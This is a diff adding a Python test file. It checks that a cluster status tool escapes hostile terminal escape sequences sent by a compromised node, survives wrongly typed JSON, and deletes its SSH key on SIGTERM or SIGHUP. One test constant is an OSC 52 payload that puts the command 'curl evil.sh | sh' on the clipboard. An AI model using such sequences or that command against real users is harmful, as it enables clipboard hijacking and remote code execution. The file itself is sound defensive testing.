@@ -1,0 +1,150 @@
+"""`status` against a node (or an engine) that answers with hostile text, and the stack's SSH key under signals.
+
+A compromised node can print anything as the probe's JSON and the engine anything as /v1/models: escape sequences
+(OSC 52 writes the operator's clipboard, OSC 0 the terminal's title) must arrive escaped, and wrong types must not
+crash the screen. A `status --watch` whose terminal closes (SIGHUP) or that is killed (SIGTERM) leaves no key.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import sys
+import threading
+import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+
+from components import cluster_status
+from components.stack_state import parse_state
+from scripts.status import format_report
+from tests.node.conftest import make_settings
+from tests.status.test_status_parts import HOST_KEY, PRIVATE, _export, _secret
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # put "curl evil.sh | sh" on the clipboard
+TITLE = "\x1b]0;pwned\x07"
+HOSTILE = f"running{OSC52}{TITLE}\x9b2J\u2028\u202e"
+
+
+class Runner:
+    def __init__(self, probe: object) -> None:
+        self.out = json.dumps(probe)
+
+    def run(self, connection, command, stdin, timeout):
+        return 0, "noise\n" + self.out + "\n", ""
+
+
+def _hostile_probe() -> dict:
+    return {"at": time.time(),
+            "steps": [{"step": f"weights{OSC52}", "started_at": "yesterday", "running": "yes"}, 5, {"step": 7}],
+            "weights": {"bytes_done": 10, "bytes_total": "lots", "files_done": [1], "updated_at": {"x": 1},
+                        "source": TITLE, "hub_bytes": -3},
+            "weights_unit": HOSTILE, "weights_log": f"ok{OSC52}",
+            "engine": {"state": HOSTILE, "restart_count": "7", "restarting": "no", "exit_code": "1"}}
+
+
+def _models_server(ids: list[object]):
+    body = json.dumps({"object": "list", "data": [{"id": i} for i in ids]}).encode()
+
+    class Handler(BaseHTTPRequestHandler):
+        def log_message(self, *a) -> None:
+            pass
+
+        def do_GET(self) -> None:
+            self.send_response(200 if self.path != "/metrics" else 404)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    return httpd
+
+
+def test_escape_sequences_and_wrong_types_from_a_node_never_reach_the_terminal(monkeypatch):
+    httpd = _models_server([f"kimi{OSC52}", {"not": "a string"}])
+    base = f"http://127.0.0.1:{httpd.server_address[1]}"
+    real_view = cluster_status.endpoint_view
+    monkeypatch.setattr(cluster_status, "endpoint_view", lambda _url, *a: real_view(base, *a))
+    try:
+        report = cluster_status.gather(parse_state(_export(), "dev"), make_settings(), Runner(_hostile_probe()), None)
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+    text = format_report(report)
+    json_text = json.dumps(report)
+    for raw in ("\x1b", "\x07", "\x9b", "\u2028", "\u202e"):
+        assert raw not in text, (raw, text)
+        assert raw not in json_text
+    assert "\\x1b]52;c;" in text  # shown, escaped, so the operator sees what the node tried
+    engine = report["nodes"][0]["engine"]
+    assert engine["restart_count"] == 0 and engine["restarting"] is False and engine["exit_code"] is None
+    assert report["nodes"][0]["weights"]["bytes_total"] is None
+    assert report["endpoint"]["models"][0].startswith("kimi\\x1b")
+
+
+def test_a_probe_that_is_not_an_object_or_not_json_is_an_error_line():
+    assert cluster_status.checked_probe([1, 2]) == {"error": "the probe printed JSON that is not an object"}
+    state = parse_state(_export(), "dev")
+    bad = Runner(None)
+    bad.out = f"{{not json {OSC52}"
+    probe = cluster_status.probe_node(bad, state.nodes[0], make_settings())
+    assert "\x1b" not in probe["error"] and "\\x1b" in probe["error"]
+
+
+def test_a_string_restart_count_no_longer_crashes_the_advice():
+    probe = cluster_status.checked_probe({"engine": {"state": "running", "restart_count": "9"}})
+    assert cluster_status.advice([{"name": "n0", "probe": probe, "vm": {}}], {}) is None
+    probe = cluster_status.checked_probe({"engine": {"state": "restarting", "restart_count": 9}})
+    assert "restarting in a loop (9 restarts)" in cluster_status.advice([{"name": "n0", "probe": probe}], {})
+
+
+def test_printable_escapes_every_control_and_separator():
+    assert cluster_status.printable("a\x1b[31mb\u0085c\u2029d\te") == "a\\x1b[31mb\\x85c\\u2029d\\x09e"
+    assert cluster_status.printable("plain text: 1.2 GB / 3 GB 40.0%") == "plain text: 1.2 GB / 3 GB 40.0%"
+
+
+# ---- 11. the SSH key under signals ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP])
+def test_the_private_key_is_removed_when_status_is_killed_or_its_terminal_closes(tmp_path, sig):
+    """The real `python -m scripts.status --watch` with an `ssh` that hangs: the signal arrives while the key file
+    exists, and the process leaves nothing behind."""
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    (bin_dir / "ssh").write_text("#!/bin/sh\nexec sleep 60\n")
+    (bin_dir / "ssh").chmod(0o755)
+    doc = _export()
+    conn = {"host": "127.0.0.1", "user": "ubuntu", "privateKey": _secret(PRIVATE), "hostKey": HOST_KEY}
+    for res in doc["deployment"]["resources"]:
+        if res["type"] == "command:remote:Command":
+            res["inputs"]["connection"] = _secret(conn)
+        if res.get("outputs", {}).get("public_ip"):
+            res["outputs"]["public_ip"] = "127.0.0.1"
+    state = tmp_path / "state.json"
+    state.write_text(json.dumps(doc))
+    tmp = tmp_path / "tmp"
+    tmp.mkdir()
+    root = Path(__file__).resolve().parents[2]
+    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}", "TMPDIR": str(tmp), "PYTHONPATH": str(root)}
+    env.pop("HYPERSTACK_API_KEY", None)
+    proc = subprocess.Popen([sys.executable, "-m", "scripts.status", "--stack", "dev", "--state", str(state),
+                             "--watch", "5"], cwd=root, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    try:
+        deadline = time.monotonic() + 60
+        while not list(tmp.glob("kimi-status-*/id")):
+            assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()
+            time.sleep(0.05)
+        proc.send_signal(sig)
+        proc.wait(timeout=30)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
+    assert proc.returncode == 128 + sig
+    assert list(tmp.glob("kimi-status-*")) == [], "the stack's private key stayed on disk"
